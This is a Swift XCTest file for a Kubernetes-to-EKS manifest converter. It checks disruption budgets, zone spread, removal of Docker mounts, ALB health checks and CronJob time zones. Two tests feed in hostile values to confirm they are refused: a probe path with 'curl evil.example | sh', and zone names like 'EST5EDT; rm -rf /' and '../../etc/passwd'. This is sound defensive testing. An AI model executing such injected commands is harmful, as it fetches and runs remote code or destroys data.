import Foundation
import XCTest
@testable import EksodusCore

/// An expert's review (s20): converted workloads must stay up on EKS. Replicated StatefulSets keep their quorum through a
/// node drain or a zone loss; node agents do not mount Docker, which EKS nodes do not run.
final class ConvertedWorkloadsStayUpTests: XCTestCase {
    let reference = try! ReferenceData.embedded()

    /// Imports `paths` as cluster `src`, plans for 1.35 and converts everything; returns every written file's text by path.
    func convert(_ paths: [String]) throws -> [String: String] {
        let database = try AppDatabase.inMemory()
        try importPaths(paths, cluster: "src", into: database)
        let plan = try TransitionPlanner(database: database, reference: reference)
            .run(PlanRequest(name: "p", target: KubernetesVersion(major: 1, minor: 35), region: "eu-west-1", accountID: "123456789012", now: fixedNow))
        let estates = try database.writer.read { try Estate.load($0) }
        let out = try temporaryFolder(self)
        _ = try ConvertedManifests(plan: plan, reference: reference).write(estates: estates, to: out)
        return try Self.files(under: out)
    }

    static func files(under root: URL) throws -> [String: String] {
        var files: [String: String] = [:]
        for case let url as URL in FileManager.default.enumerator(at: root, includingPropertiesForKeys: nil) ?? FileManager.default.enumerator(atPath: "/")!
        where url.pathExtension == "yaml" || url.pathExtension == "md" {
            files[String(url.path.dropFirst(root.path.count + 1))] = try String(contentsOf: url, encoding: .utf8)
        }
        return files
    }

    /// The objects of the YAML files (kustomizations aside), each with the file it is in.
    static func objects(_ files: [String: String]) throws -> [(file: String, object: ManifestNode)] {
        try files.filter { $0.key.hasSuffix(".yaml") && !$0.key.hasSuffix("kustomization.yaml") }.sorted { $0.key < $1.key }
            .flatMap { file in try ManifestText.objects(file.value, name: file.key).map { (file.key, $0) } }
    }

    /// Whether a budget's or constraint's selector selects the pods of `workload` (matchLabels against its template labels).
    static func selects(_ selector: ManifestNode?, _ workload: ManifestNode) -> Bool {
        guard let wanted = selector?["matchLabels"]?.stringMap, !wanted.isEmpty else { return false }
        let labels = workload["spec", "template", "metadata", "labels"]?.stringMap ?? [:]
        return wanted.allSatisfy { labels[$0.key] == $0.value }
    }

    func testDemoRabbitMQAndCartCacheGetAZoneSpreadAndOneBudgetEach() throws {
        let demo = try Demo(folder: try temporaryFolder(self), now: fixedNow).run()
        let files = try Self.files(under: demo.folder.appendingPathComponent("converted"))
        let objects = try Self.objects(files)
        let statefulSets = objects.filter { $0.object["kind"]?.string == "StatefulSet" }
        let budgets = objects.filter { $0.object["kind"]?.string == "PodDisruptionBudget" }
        var checked: Set<String> = []
        for (file, set) in statefulSets {
            let name = set["metadata", "name"]?.string ?? ""
            let namespace = set["metadata", "namespace"]?.string ?? ""
            let selecting = budgets.filter { $0.object["metadata", "namespace"]?.string == namespace && Self.selects($0.object["spec", "selector"], set) }
            let spread = (set["spec", "template", "spec", "topologySpreadConstraints"]?.items ?? [])
                .filter { $0["topologyKey"]?.string == "topology.kubernetes.io/zone" }
            guard (set["spec", "replicas"]?.int ?? 1) >= 2 else {
                XCTAssertTrue(spread.isEmpty, "\(file): one replica, nothing to spread")
                continue
            }
            XCTAssertEqual(selecting.count, 1, "\(file): exactly one budget selects a replicated StatefulSet")
            XCTAssertEqual(spread.count, 1, file)
            XCTAssertEqual(spread.first?["whenUnsatisfiable"]?.string, "DoNotSchedule", file)
            XCTAssertEqual(spread.first?["maxSkew"]?.int, 1, file)
            XCTAssertTrue(Self.selects(spread.first?["labelSelector"], set), "\(file): the spread counts its own pods")
            if let budget = selecting.first {
                XCTAssertTrue(budget.file.contains("/support/"), "\(budget.file): applied before the StatefulSet")
                XCTAssertEqual(budget.object["apiVersion"]?.string, "policy/v1")
                XCTAssertEqual(budget.object["spec", "maxUnavailable"]?.int, 1, budget.file)
            }
            checked.insert(name)
        }
        XCTAssertTrue(checked.isSuperset(of: ["rabbitmq", "cart-cache"]), "\(checked)")
        let changes = files.filter { $0.key.hasSuffix("wave-1/CHANGES.md") && $0.key.hasPrefix("prod/") }.values.joined()
        XCTAssertTrue(changes.contains("`StatefulSet/data/rabbitmq` PodDisruptionBudget rabbitmq: added (maxUnavailable: 1)"), changes)
        XCTAssertTrue(changes.contains("`StatefulSet/data/rabbitmq` topologySpreadConstraints: 3 replicas spread over Availability Zones"), changes)
    }

    /// A StatefulSet a budget already selects gets no second one (two budgets over one pod make eviction refuse it), and
    /// one that spreads by zone keeps its own spread; the Cassandra fixture (3 replicas, no budget) gets both.
    func testAnExistingBudgetOrSpreadIsKeptAndTheCassandraFixtureGetsBoth() throws {
        let folder = try temporaryFolder(self)
        try """
            apiVersion: apps/v1
            kind: StatefulSet
            metadata: {name: zk, namespace: coord}
            spec:
              replicas: 3
              serviceName: zk
              selector: {matchLabels: {app: zk}}
              template:
                metadata: {labels: {app: zk}}
                spec:
                  affinity:
                    podAntiAffinity:
                      requiredDuringSchedulingIgnoredDuringExecution:
                      - {topologyKey: topology.kubernetes.io/zone, labelSelector: {matchLabels: {app: zk}}}
                  containers: [{name: zk, image: "zookeeper:3.9"}]
            ---
            apiVersion: policy/v1
            kind: PodDisruptionBudget
            metadata: {name: zk, namespace: coord}
            spec: {minAvailable: 2, selector: {matchLabels: {app: zk}}}
            """.write(to: folder.appendingPathComponent("zk.yaml"), atomically: true, encoding: .utf8)
        let objects = try Self.objects(try convert([folder.path]))
        let zk = try XCTUnwrap(objects.first { $0.object["kind"]?.string == "StatefulSet" }?.object)
        XCTAssertNil(zk["spec", "template", "spec", "topologySpreadConstraints"], "its anti-affinity already separates zones")
        let budgets = objects.filter { $0.object["kind"]?.string == "PodDisruptionBudget" }
        XCTAssertEqual(budgets.count, 1)
        XCTAssertEqual(budgets.first?.object["spec", "minAvailable"]?.int, 2, "the source's own budget, unchanged")

        let fixtures = try requireFixtures()
        let cassandra = try Self.objects(try convert([fixtures.appendingPathComponent("05-k8s-examples-cassandra").path]))
        let set = try XCTUnwrap(cassandra.first { $0.object["kind"]?.string == "StatefulSet" }?.object)
        XCTAssertEqual(set["spec", "template", "spec", "topologySpreadConstraints"]?.items.first?["topologyKey"]?.string, "topology.kubernetes.io/zone")
        let budget = try XCTUnwrap(cassandra.first { $0.object["kind"]?.string == "PodDisruptionBudget" })
        XCTAssertTrue(Self.selects(budget.object["spec", "selector"], set))
        XCTAssertEqual(budget.object["metadata", "name"]?.string, "cassandra")
    }

    /// AVL005/AVL007 are warnings for a replicated StatefulSet (a quorum), info for a Deployment.
    func testMissingBudgetAndSpreadAreWarningsForStatefulReplicasOnly() throws {
        let demo = try Demo(folder: try temporaryFolder(self), now: fixedNow).run()
        let findings = demo.plan.assessment.clusters.flatMap(\.findings).filter { ["AVL005", "AVL007"].contains($0.checkID) }
        let stateful = findings.filter { $0.message.contains("StatefulSet/") }
        let others = findings.filter { !$0.message.contains("StatefulSet/") }
        XCTAssertTrue(stateful.contains { $0.message.hasPrefix("StatefulSet/data/rabbitmq") && $0.checkID == "AVL005" }, "\(stateful.map(\.message))")
        XCTAssertTrue(stateful.contains { $0.message.hasPrefix("StatefulSet/data/cart-cache") && $0.checkID == "AVL007" }, "\(stateful.map(\.message))")
        XCTAssertTrue(stateful.allSatisfy { $0.severity == .warning }, "\(stateful.map(\.message))")
        XCTAssertFalse(others.isEmpty)
        XCTAssertTrue(others.allSatisfy { $0.severity == .info }, "\(others.map(\.message))")
    }

    /// The demo's fluent-bit and the fluentd (fixture 08) agents: no Docker socket or Docker log
    /// folder is left mounted, every container's mounts name a volume that exists, and the to-do says how to read CRI logs;
    /// the sysdig agents (fixture 14) also mount the node's /proc and /dev and are held (SEC011).
    func testDockerSocketAndLogFolderMountsAreDroppedWithTheCRIToDo() throws {
        let demo = try Demo(folder: try temporaryFolder(self), now: fixedNow).run()
        var outputs: [(String, [String: String])] = [("demo", try Self.files(under: demo.folder.appendingPathComponent("converted")))]
        let fixtures = try requireFixtures()
        for entry in ["14-messy-tabs-crlf", "08-sock-shop-2018-old-apis"] {
            outputs.append((entry, try convert([fixtures.appendingPathComponent(entry).path])))
        }
        for (name, files) in outputs {
            var agents = 0
            for (file, object) in try Self.objects(files) where ["DaemonSet", "ReplicationController", "Deployment"].contains(object["kind"]?.string ?? "") {
                let pod = try XCTUnwrap(object["spec", "template", "spec"], file)
                let volumes = pod["volumes"]?.items ?? []
                XCTAssertFalse(volumes.contains { DockerHostMounts.isDockerPath($0["hostPath", "path"]?.string ?? "") }, "\(name) \(file)")
                let names = Set(volumes.compactMap { $0["name"]?.string })
                for container in (pod["containers"]?.items ?? []) + (pod["initContainers"]?.items ?? []) {
                    for mount in container["volumeMounts"]?.items ?? [] {
                        XCTAssertTrue(names.contains(mount["name"]?.string ?? ""), "\(name) \(file): mount \(mount["name"]?.string ?? "") has no volume")
                    }
                }
                let agentName = object["metadata", "name"]?.string ?? ""
                if ["fluent-bit", "sysdig-agent", "fluentd"].contains(agentName) { agents += 1 }
            }
            let changes = files.filter { $0.key.hasSuffix("CHANGES.md") }.values.joined()
            // The sysdig agents also mount the node's /proc, /dev, /boot and /usr (SEC011): held out of the waves with
            // why, never written with only their Docker socket removed.
            if name == "14-messy-tabs-crlf" {
                XCTAssertEqual(agents, 0, name)
                XCTAssertTrue(changes.contains("sysdig-agent not written (held: it would take over its EKS node"), changes)
                continue
            }
            XCTAssertGreaterThan(agents, 0, name)
            XCTAssertTrue(changes.contains("multiline.parser cri"), name)
            XCTAssertTrue(changes.contains("removed: EKS nodes run containerd only"), name)
        }
        let demoChanges = outputs[0].1.filter { $0.key.hasPrefix("prod/wave-0/CHANGES.md") }.values.joined()
        XCTAssertTrue(demoChanges.contains("DaemonSet/platform/fluent-bit: Docker's /var/run/docker.sock dropped"), demoChanges)
        XCTAssertFalse(demoChanges.contains("mount the node's /var/log"), "fluent-bit reads /var/log already")
    }

    /// The demo's shop Ingress: checkout is ready on /healthz and storefront on /ready, so their Services carry those ALB
    /// health checks; cart's probe is TCP only, which the to-do says; the shop namespace gets the readiness gate label.
    func testALBTargetServicesCarryTheirReadinessProbeAsHealthCheck() throws {
        let demo = try Demo(folder: try temporaryFolder(self), now: fixedNow).run()
        let files = try Self.files(under: demo.folder.appendingPathComponent("converted"))
        let objects = try Self.objects(files.filter { $0.key.hasPrefix("prod/") })
        func service(_ name: String) throws -> ManifestNode {
            try XCTUnwrap(objects.first { $0.object["kind"]?.string == "Service" && $0.object["metadata", "namespace"]?.string == "shop" && $0.object["metadata", "name"]?.string == name }?.object, name)
        }
        let prefix = "alb.ingress.kubernetes.io/"
        for (name, path) in [("checkout", "/healthz"), ("storefront", "/ready")] {
            let annotations = try service(name)["metadata", "annotations"]?.stringMap ?? [:]
            XCTAssertEqual(annotations[prefix + "healthcheck-path"], path, name)
            XCTAssertEqual(annotations[prefix + "success-codes"], "200-399", name)
            XCTAssertEqual(annotations[prefix + "healthcheck-protocol"], "HTTP", name)
            XCTAssertNotNil(annotations[prefix + "healthcheck-port"], name)
        }
        XCTAssertNil(try service("cart")["metadata", "annotations", prefix + "healthcheck-path"])
        let todos = files.filter { $0.key.hasPrefix("prod/") && $0.key.hasSuffix("CHANGES.md") }.values.joined()
        XCTAssertTrue(todos.contains("Service shop/cart is an ALB target, and no health check was derived: Deployment/shop/cart's readiness probe is TCP only"), todos)
        let shop = try XCTUnwrap(objects.first { $0.object["kind"]?.string == "Namespace" && $0.object["metadata", "name"]?.string == "shop" }?.object)
        XCTAssertEqual(shop["metadata", "labels", "elbv2.k8s.aws/pod-readiness-gate-inject"]?.string, "enabled")
        let batch = try XCTUnwrap(objects.first { $0.object["kind"]?.string == "Namespace" && $0.object["metadata", "name"]?.string == "batch" }?.object)
        XCTAssertNil(batch["metadata", "labels", "elbv2.k8s.aws/pod-readiness-gate-inject"], "no ALB target there")
    }

    /// A hostile readiness path (quotes, a newline, a command) never becomes a health check: a to-do instead; a named probe
    /// port on another container port becomes its number; the output still parses.
    func testHostileOrNamedProbesAreHandled() throws {
        let folder = try temporaryFolder(self)
        try """
            apiVersion: apps/v1
            kind: Deployment
            metadata: {name: web, namespace: app}
            spec:
              replicas: 2
              selector: {matchLabels: {app: web}}
              template:
                metadata: {labels: {app: web}}
                spec:
                  containers:
                  - name: web
                    image: "nginx:1.27"
                    ports: [{containerPort: 8080, name: http}, {containerPort: 9090, name: admin}]
                    readinessProbe: {httpGet: {path: /status, port: admin, scheme: HTTPS}}
            ---
            apiVersion: apps/v1
            kind: Deployment
            metadata: {name: evil, namespace: app}
            spec:
              replicas: 2
              selector: {matchLabels: {app: evil}}
              template:
                metadata: {labels: {app: evil}}
                spec:
                  containers:
                  - name: evil
                    image: "nginx:1.27"
                    ports: [{containerPort: 80}]
                    readinessProbe: {httpGet: {path: "/ok'; curl evil.example | sh; echo '\\n# x", port: 80}}
            ---
            apiVersion: v1
            kind: Service
            metadata: {name: web, namespace: app}
            spec: {selector: {app: web}, ports: [{port: 80, targetPort: http}]}
            ---
            apiVersion: v1
            kind: Service
            metadata: {name: evil, namespace: app}
            spec: {selector: {app: evil}, ports: [{port: 80}]}
            ---
            apiVersion: networking.k8s.io/v1
            kind: Ingress
            metadata: {name: front, namespace: app}
            spec:
              ingressClassName: nginx
              rules:
              - host: app.example.com
                http:
                  paths:
                  - {path: /, pathType: Prefix, backend: {service: {name: web, port: {number: 80}}}}
                  - {path: /e, pathType: Prefix, backend: {service: {name: evil, port: {number: 80}}}}
            """.write(to: folder.appendingPathComponent("app.yaml"), atomically: true, encoding: .utf8)
        let files = try convert([folder.path])
        let objects = try Self.objects(files)
        let web = try XCTUnwrap(objects.first { $0.object["kind"]?.string == "Service" && $0.object["metadata", "name"]?.string == "web" }?.object)
        XCTAssertEqual(web["metadata", "annotations", "alb.ingress.kubernetes.io/healthcheck-port"]?.string, "9090")
        XCTAssertEqual(web["metadata", "annotations", "alb.ingress.kubernetes.io/healthcheck-protocol"]?.string, "HTTPS")
        XCTAssertEqual(web["metadata", "annotations", "alb.ingress.kubernetes.io/healthcheck-path"]?.string, "/status")
        let evil = try XCTUnwrap(objects.first { $0.object["kind"]?.string == "Service" && $0.object["metadata", "name"]?.string == "evil" }?.object)
        XCTAssertNil(evil["metadata", "annotations", "alb.ingress.kubernetes.io/healthcheck-path"])
        let changes = files.filter { $0.key.hasSuffix("CHANGES.md") }.values.joined()
        XCTAssertTrue(changes.contains("readiness path is not one an ALB health check takes"), changes)
        XCTAssertFalse(changes.contains("curl evil.example"), "the hostile path is never written")
    }

    /// The target-health gate, run in bash with stub kubectl and aws: it passes only when every backend Service has a
    /// target group whose targets are all healthy.
    func testTargetHealthGateFailsUnlessEveryTargetIsHealthy() throws {
        let line = TargetHealthGate.command(namespace: "shop", ingress: "shop")
        let kubectl = """
            case "$*" in
              *"get ingress/shop"*) printf 'storefront\ncart\n' ;;
              *targetgroupbindings*) printf '%s' "$BINDINGS" ;;
              *) exit 3 ;;
            esac
            """
        let bindings = "storefront arn:aws:elasticloadbalancing:tg/a\ncart arn:aws:elasticloadbalancing:tg/b\n"
        func run(aws: String, bindings: String = bindings, kubectl: String = kubectl) throws -> Int32 {
            let folder = try temporaryFolder(self)
            let bin = folder.appendingPathComponent("bin")
            try FileManager.default.createDirectory(at: bin, withIntermediateDirectories: true)
            for (name, body) in ["kubectl": kubectl, "aws": aws] {
                try ("#!/bin/bash\n" + body + "\n").write(to: bin.appendingPathComponent(name), atomically: true, encoding: .utf8)
                try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: bin.appendingPathComponent(name).path)
            }
            let process = Process()
            process.executableURL = URL(fileURLWithPath: "/bin/bash")
            process.arguments = ["-c", "set -e -o pipefail\n. \"$EKSODUS_RUNBOOK_LIB\"\n" + line]
            process.environment = RunbookLibraryFile.environment(["PATH": bin.path + ":/usr/bin:/bin", "EKS_CONTEXT": "eks", "BINDINGS": bindings])
            process.standardOutput = FileHandle.nullDevice
            process.standardError = FileHandle.nullDevice
            try process.run()
            process.waitUntilExit()
            return process.terminationStatus
        }
        XCTAssertEqual(try run(aws: "printf 'healthy\thealthy\n'"), 0)
        XCTAssertNotEqual(try run(aws: "case \"$*\" in *tg/b*) printf 'healthy\tunhealthy\n' ;; *) echo healthy ;; esac"), 0, "one unhealthy target")
        XCTAssertNotEqual(try run(aws: "echo initial"), 0, "targets still registering")
        XCTAssertNotEqual(try run(aws: "true"), 0, "an empty target group")
        XCTAssertNotEqual(try run(aws: "echo None"), 0, "no targets: the CLI prints None")
        XCTAssertNotEqual(try run(aws: "echo 'AccessDenied' >&2; exit 254"), 0, "a failed AWS call")
        XCTAssertNotEqual(try run(aws: "echo healthy", bindings: "storefront arn:aws:elasticloadbalancing:tg/a\n"), 0, "cart has no target group")
        XCTAssertNotEqual(try run(aws: "echo healthy", kubectl: "exit 1"), 0, "the cluster is unreachable")
        XCTAssertNotEqual(try run(aws: "echo healthy", kubectl: "true"), 0, "no backend Service found")
    }

    /// The demo's shop switch checks target health before any weight moves: each share's call names the Ingress whose
    /// targets it checks (the library's `eksodus_dns_shift` runs `eksodus_target_health` before its change).
    func testDemoShopSwitchGatesOnTargetHealthBeforeTheFirstShift() throws {
        let demo = try Demo(folder: try temporaryFolder(self), now: fixedNow).run()
        let traffic = try XCTUnwrap(demo.plan.items.first { $0.keyText == "traffic:prod:shop.acme.example" })
        let shifts = traffic.commands.filter { $0.hasPrefix("eksodus_dns_shift ") }
        XCTAssertEqual(shifts.count, 1 + TrafficCommands.shares.count, "\(traffic.commands)")
        XCTAssertTrue(shifts.allSatisfy { $0.hasSuffix(" 'shop' 'ingress/shop'") }, "\(shifts)")
        let library = RunbookLibrary.text
        let health = try XCTUnwrap(library.range(of: "eksodus_target_health \"$1\" \"$2\" || return 1"))
        XCTAssertLessThan(health.lowerBound, try XCTUnwrap(library.range(of: "eksodus_dns_apply \"$record\"", range: health.upperBound..<library.endIndex)).lowerBound)
    }

    /// A CronJob schedule without spec.timeZone runs in UTC on EKS: the zone given for the cluster is written into each
    /// converted CronJob, a CRON_TZ= prefix moves into spec.timeZone, a CronJob naming its own zone keeps it, and the
    /// cluster's decision item is open until a zone is given; a name that is not IANA is refused.
    func testCronJobsGetTheDecidedTimeZone() throws {
        let folder = try temporaryFolder(self)
        try """
            apiVersion: batch/v1
            kind: CronJob
            metadata: {name: backup, namespace: ops}
            spec:
              schedule: "0 3 * * *"
              jobTemplate: {spec: {template: {spec: {restartPolicy: OnFailure, containers: [{name: b, image: "busybox:1.36"}]}}}}
            ---
            apiVersion: batch/v1
            kind: CronJob
            metadata: {name: report, namespace: ops}
            spec:
              schedule: "CRON_TZ=Europe/Berlin 30 1 * * *"
              jobTemplate: {spec: {template: {spec: {restartPolicy: OnFailure, containers: [{name: r, image: "busybox:1.36"}]}}}}
            ---
            apiVersion: batch/v1
            kind: CronJob
            metadata: {name: own, namespace: ops}
            spec:
              schedule: "0 * * * *"
              timeZone: America/New_York
              jobTemplate: {spec: {template: {spec: {restartPolicy: OnFailure, containers: [{name: o, image: "busybox:1.36"}]}}}}
            """.write(to: folder.appendingPathComponent("cron.yaml"), atomically: true, encoding: .utf8)
        func run(_ zones: [String: String]) throws -> (TransitionPlan, [String: ManifestNode], String) {
            let database = try AppDatabase.inMemory()
            try importPaths([folder.path], cluster: "src", into: database)
            let plan = try TransitionPlanner(database: database, reference: reference)
                .run(PlanRequest(name: "p", target: KubernetesVersion(major: 1, minor: 35), region: "eu-west-1", accountID: "123456789012", now: fixedNow, cronTimeZones: zones))
            let out = try temporaryFolder(self)
            _ = try ConvertedManifests(plan: plan, reference: reference).write(estates: try database.writer.read { try Estate.load($0) }, to: out)
            let files = try Self.files(under: out)
            let jobs = Dictionary(try Self.objects(files).filter { $0.object["kind"]?.string == "CronJob" }.map { ($0.object["metadata", "name"]?.string ?? "", $0.object) }, uniquingKeysWith: { a, _ in a })
            return (plan, jobs, files.filter { $0.key.hasSuffix("CHANGES.md") }.values.joined())
        }
        let (undecided, plain, todos) = try run([:])
        XCTAssertNil(plain["backup"]?["spec", "timeZone"])
        XCTAssertEqual(plain["report"]?["spec", "timeZone"]?.string, "Europe/Berlin")
        XCTAssertEqual(plain["report"]?["spec", "schedule"]?.string, "30 1 * * *")
        XCTAssertEqual(plain["own"]?["spec", "timeZone"]?.string, "America/New_York")
        XCTAssertTrue(todos.contains("CronJob/ops/backup: no spec.timeZone, so on EKS it runs in UTC"), todos)
        let decision = try XCTUnwrap(undecided.items.first { $0.keyText == "plan:cron-time-zone:src" })
        XCTAssertFalse(decision.provenDone)
        let deploy = try XCTUnwrap(undecided.items.first { $0.keyText == "deploy:src/ops/backup" })
        XCTAssertTrue(deploy.prerequisites.contains(.plan(.cronTimeZone, cluster: "src")))

        let (decided, zoned, _) = try run(["src": "Asia/Seoul"])
        XCTAssertEqual(zoned["backup"]?["spec", "timeZone"]?.string, "Asia/Seoul")
        XCTAssertEqual(zoned["report"]?["spec", "timeZone"]?.string, "Europe/Berlin", "the zone its schedule named wins")
        XCTAssertEqual(zoned["own"]?["spec", "timeZone"]?.string, "America/New_York")
        XCTAssertTrue(try XCTUnwrap(decided.items.first { $0.keyText == "plan:cron-time-zone:src" }).provenDone)
        XCTAssertEqual(try run(["*": "Asia/Seoul"]).1["backup"]?["spec", "timeZone"]?.string, "Asia/Seoul")

        for bad in ["Asia/Nowhere", "Local", "EST5EDT; rm -rf /", "../../etc/passwd", ""] {
            XCTAssertThrowsError(try CronJobTimeZone.parse([bad]), bad)
            XCTAssertThrowsError(try run(["src": bad]), bad)
        }
        XCTAssertEqual(try CronJobTimeZone.parse(["prod=Asia/Seoul", "UTC"]), ["prod": "Asia/Seoul", "*": "UTC"])
    }
}
